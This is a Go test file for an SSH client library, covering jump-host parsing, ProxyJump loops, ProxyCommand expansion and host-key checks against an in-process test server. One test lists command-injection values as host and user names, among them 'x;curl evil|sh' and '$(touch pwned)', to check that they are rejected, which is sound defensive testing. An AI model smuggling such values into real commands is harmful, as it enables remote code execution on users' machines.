@@ -0,0 +1,376 @@
+// Copyright 2024 Sherlock Authors
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+//     http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+
+package sshclient
+
+import (
+	"context"
+	"crypto/ed25519"
+	"crypto/rand"
+	"encoding/binary"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strconv"
+	"sync"
+	"testing"
+
+	"golang.org/x/crypto/ssh"
+)
+
+func TestParseJumpSpec(t *testing.T) {
+	tests := []struct {
+		spec    string
+		want    []HostInfo
+		wantErr bool
+	}{
+		{spec: "bastion", want: []HostInfo{{Host: "bastion", Port: 22}}},
+		{spec: "admin@gw1:2222,gw2", want: []HostInfo{{Host: "gw1", Port: 2222, User: "admin"}, {Host: "gw2", Port: 22}}},
+		{spec: "ssh://ops@[2001:db8::1]:2200", want: []HostInfo{{Host: "2001:db8::1", Port: 2200, User: "ops"}}},
+		{spec: "[2001:db8::1]", want: []HostInfo{{Host: "2001:db8::1", Port: 22}}},
+		{spec: "none", want: nil},
+		{spec: "", want: nil},
+		{spec: "gw:http", wantErr: true},
+		{spec: "gw1,,gw2", wantErr: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.spec, func(t *testing.T) {
+			got, err := ParseJumpSpec(tt.spec)
+			if (err != nil) != tt.wantErr {
+				t.Fatalf("ParseJumpSpec(%q) error = %v, wantErr %v", tt.spec, err, tt.wantErr)
+			}
+			if len(got) != len(tt.want) {
+				t.Fatalf("ParseJumpSpec(%q) = %d hosts, want %d", tt.spec, len(got), len(tt.want))
+			}
+			for i := range got {
+				if *got[i] != tt.want[i] {
+					t.Errorf("ParseJumpSpec(%q)[%d] = %+v, want %+v", tt.spec, i, *got[i], tt.want[i])
+				}
+			}
+		})
+	}
+}
+
+func TestResolveJumpHosts(t *testing.T) {
+	configPath := filepath.Join(t.TempDir(), "config")
+	content := `Host bastion
+    Hostname bastion.example.com
+    User jump
+    Port 2200
+    ProxyJump edge
+
+Host edge
+    Hostname edge.example.com
+
+Host loop1
+    ProxyJump loop2
+
+Host loop2
+    ProxyJump loop1
+`
+	if err := os.WriteFile(configPath, []byte(content), 0600); err != nil {
+		t.Fatal(err)
+	}
+	config, err := ParseSSHConfigFile(configPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	jumps, err := resolveJumpHosts(config, "bastion,ops@inner", "deploy")
+	if err != nil {
+		t.Fatalf("resolveJumpHosts() error = %v", err)
+	}
+	want := []HostInfo{
+		{Host: "edge.example.com", Port: 22, User: "deploy"},
+		{Host: "bastion.example.com", Port: 2200, User: "jump"},
+		{Host: "inner", Port: 22, User: "ops"},
+	}
+	if len(jumps) != len(want) {
+		t.Fatalf("resolveJumpHosts() = %d hops, want %d", len(jumps), len(want))
+	}
+	for i, jump := range jumps {
+		if *jump.hostInfo != want[i] {
+			t.Errorf("hop %d = %+v, want %+v", i, *jump.hostInfo, want[i])
+		}
+	}
+
+	if _, err := resolveJumpHosts(config, "loop1", "deploy"); err == nil {
+		t.Errorf("resolveJumpHosts() should detect a ProxyJump loop")
+	}
+}
+
+func TestExpandProxyCommand(t *testing.T) {
+	info := &HostInfo{Host: "db.internal", Port: 2222, User: "admin"}
+	tests := []struct {
+		command string
+		want    string
+	}{
+		{command: "nc %h %p", want: "nc db.internal 2222"},
+		{command: "ssh -W %h:%p %r@gw", want: "ssh -W db.internal:2222 admin@gw"},
+		{command: "echo 100%%", want: "echo 100%"},
+		{command: "none", want: ""},
+	}
+
+	for _, tt := range tests {
+		if got, err := expandProxyCommand(tt.command, info); err != nil || got != tt.want {
+			t.Errorf("expandProxyCommand(%q) = %q, %v, want %q", tt.command, got, err, tt.want)
+		}
+	}
+
+	unsafe := []*HostInfo{
+		{Host: "x;curl evil|sh", Port: 22, User: "admin"},
+		{Host: "$(touch pwned)", Port: 22, User: "admin"},
+		{Host: "-oProxyCommand=evil", Port: 22, User: "admin"},
+		{Host: "db.internal", Port: 22, User: "admin`id`"},
+		{Host: "db.internal", Port: 22, User: "a b"},
+	}
+	for _, info := range unsafe {
+		if got, err := expandProxyCommand("nc %h %p", info); err == nil {
+			t.Errorf("expandProxyCommand() with host %q user %q = %q, want an error", info.Host, info.User, got)
+		}
+	}
+	// A disabled proxy command does not care
+	if _, err := expandProxyCommand("none", unsafe[0]); err != nil {
+		t.Errorf("expandProxyCommand(none) error = %v", err)
+	}
+}
+
+func TestProxyCommandConn(t *testing.T) {
+	conn, err := startProxyCommand("cat", "db.example.com:2222")
+	if err != nil {
+		t.Skipf("sh not available: %v", err)
+	}
+	if got := conn.RemoteAddr().String(); got != "db.example.com:2222" {
+		t.Errorf("RemoteAddr() = %s, want the target host and port", got)
+	}
+	if _, err := conn.Write([]byte("hello")); err != nil {
+		t.Fatalf("Write() error = %v", err)
+	}
+	buf := make([]byte, 5)
+	if _, err := io.ReadFull(conn, buf); err != nil || string(buf) != "hello" {
+		t.Errorf("Read() = %q, %v, want hello", buf, err)
+	}
+	if err := conn.Close(); err != nil {
+		t.Errorf("Close() error = %v", err)
+	}
+}
+
+// testSSHServer is an in-process SSH server that accepts any password and
+// forwards direct-tcpip channels, like a bastion host.
+type testSSHServer struct {
+	addr string
+
+	mu       sync.Mutex
+	forwards []string   // targets of direct-tcpip channels
+	conns    []net.Conn // accepted connections
+}
+
+func startTestSSHServer(t *testing.T) *testSSHServer {
+	t.Helper()
+	_, key, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	signer, err := ssh.NewSignerFromKey(key)
+	if err != nil {
+		t.Fatal(err)
+	}
+	config := &ssh.ServerConfig{
+		PasswordCallback: func(ssh.ConnMetadata, []byte) (*ssh.Permissions, error) { return nil, nil },
+	}
+	config.AddHostKey(signer)
+
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { ln.Close() })
+
+	s := &testSSHServer{addr: ln.Addr().String()}
+	go func() {
+		for {
+			conn, err := ln.Accept()
+			if err != nil {
+				return
+			}
+			go s.serve(conn, config)
+		}
+	}()
+	return s
+}
+
+// DropConnections closes the accepted connections, like a network failure.
+func (s *testSSHServer) DropConnections() {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	for _, conn := range s.conns {
+		conn.Close()
+	}
+	s.conns = nil
+}
+
+// Forwards returns the targets of the forwarded channels so far.
+func (s *testSSHServer) Forwards() []string {
+	s.mu.Lock()
+	defer s.mu.Unlock()
+	return append([]string(nil), s.forwards...)
+}
+
+func (s *testSSHServer) serve(conn net.Conn, config *ssh.ServerConfig) {
+	s.mu.Lock()
+	s.conns = append(s.conns, conn)
+	s.mu.Unlock()
+
+	_, chans, reqs, err := ssh.NewServerConn(conn, config)
+	if err != nil {
+		return
+	}
+	go ssh.DiscardRequests(reqs)
+	for newChan := range chans {
+		if newChan.ChannelType() != "direct-tcpip" {
+			_ = newChan.Reject(ssh.UnknownChannelType, "only forwarding")
+			continue
+		}
+		// RFC 4254 7.2: host to connect, port to connect, originator IP and port
+		data := newChan.ExtraData()
+		hostLen := binary.BigEndian.Uint32(data)
+		host := string(data[4 : 4+hostLen])
+		port := binary.BigEndian.Uint32(data[4+hostLen:])
+		target := net.JoinHostPort(host, strconv.Itoa(int(port)))
+
+		s.mu.Lock()
+		s.forwards = append(s.forwards, target)
+		s.mu.Unlock()
+
+		upstream, err := net.Dial("tcp", target)
+		if err != nil {
+			_ = newChan.Reject(ssh.ConnectionFailed, err.Error())
+			continue
+		}
+		channel, requests, err := newChan.Accept()
+		if err != nil {
+			upstream.Close()
+			continue
+		}
+		go ssh.DiscardRequests(requests)
+		go func() {
+			defer channel.Close()
+			defer upstream.Close()
+			go func() { _, _ = io.Copy(upstream, channel) }()
+			_, _ = io.Copy(channel, upstream)
+		}()
+	}
+}
+
+func TestConnectThroughJumpHosts(t *testing.T) {
+	jump1, jump2, target := startTestSSHServer(t), startTestSSHServer(t), startTestSSHServer(t)
+
+	var mu sync.Mutex
+	var verified []string
+	newConfig := func() *ssh.ClientConfig {
+		return &ssh.ClientConfig{
+			User: "ops",
+			Auth: []ssh.AuthMethod{ssh.Password("secret")},
+			HostKeyCallback: func(hostname string, _ net.Addr, _ ssh.PublicKey) error {
+				mu.Lock()
+				defer mu.Unlock()
+				verified = append(verified, hostname)
+				return nil
+			},
+		}
+	}
+	hostInfo := func(addr string) *HostInfo {
+		host, port, _ := net.SplitHostPort(addr)
+		p, _ := strconv.Atoi(port)
+		return &HostInfo{Host: host, Port: p, User: "ops"}
+	}
+
+	client := &Client{
+		hostInfo:  hostInfo(target.addr),
+		sshConfig: newConfig(),
+		jumps: []*jumpHost{
+			{hostInfo: hostInfo(jump1.addr), config: newConfig()},
+			{hostInfo: hostInfo(jump2.addr), config: newConfig()},
+		},
+	}
+	if err := client.Connect(context.Background()); err != nil {
+		t.Fatalf("Connect() error = %v", err)
+	}
+	defer client.Close()
+
+	if got := jump1.Forwards(); len(got) != 1 || got[0] != jump2.addr {
+		t.Errorf("first jump forwarded to %v, want [%s]", got, jump2.addr)
+	}
+	if got := jump2.Forwards(); len(got) != 1 || got[0] != target.addr {
+		t.Errorf("second jump forwarded to %v, want [%s]", got, target.addr)
+	}
+	want := []string{jump1.addr, jump2.addr, target.addr}
+	if len(verified) != len(want) {
+		t.Fatalf("host keys verified for %v, want %v", verified, want)
+	}
+	for i := range want {
+		if verified[i] != want[i] {
+			t.Errorf("host key %d verified for %s, want %s", i, verified[i], want[i])
+		}
+	}
+
+	if err := client.Close(); err != nil {
+		t.Errorf("Close() error = %v", err)
+	}
+	if len(client.jumpClients) != 0 {
+		t.Errorf("jump connections should be closed with the client")
+	}
+}
+
+func TestConnectThroughProxyCommandWithKnownHosts(t *testing.T) {
+	if _, err := exec.LookPath("bash"); err != nil {
+		t.Skip("bash not available")
+	}
+	target := startTestSSHServer(t)
+	host, port, _ := net.SplitHostPort(target.addr)
+	knownHosts := filepath.Join(t.TempDir(), "known_hosts")
+
+	connect := func(policy hostKeyPolicy) error {
+		p, _ := strconv.Atoi(port)
+		client := &Client{
+			hostInfo: &HostInfo{Host: host, Port: p, User: "ops"},
+			sshConfig: &ssh.ClientConfig{
+				User:            "ops",
+				Auth:            []ssh.AuthMethod{ssh.Password("secret")},
+				HostKeyCallback: createHostKeyCallback(policy),
+			},
+			// Like "nc %h %p", without needing nc
+			proxyCommand: fmt.Sprintf(`bash -c 'exec 3<>/dev/tcp/%s/%s; cat <&3 & cat >&3'`, host, port),
+		}
+		if err := client.Connect(context.Background()); err != nil {
+			return err
+		}
+		return client.Close()
+	}
+
+	// The first connection records the key, later ones check it
+	if err := connect(hostKeyPolicy{files: []string{knownHosts}}); err != nil {
+		t.Fatalf("first Connect() error = %v", err)
+	}
+	if _, err := os.Stat(knownHosts); err != nil {
+		t.Fatalf("host key was not recorded: %v", err)
+	}
+	if err := connect(hostKeyPolicy{strict: true, files: []string{knownHosts}}); err != nil {
+		t.Errorf("Connect() with the key in known_hosts error = %v", err)
+	}
+}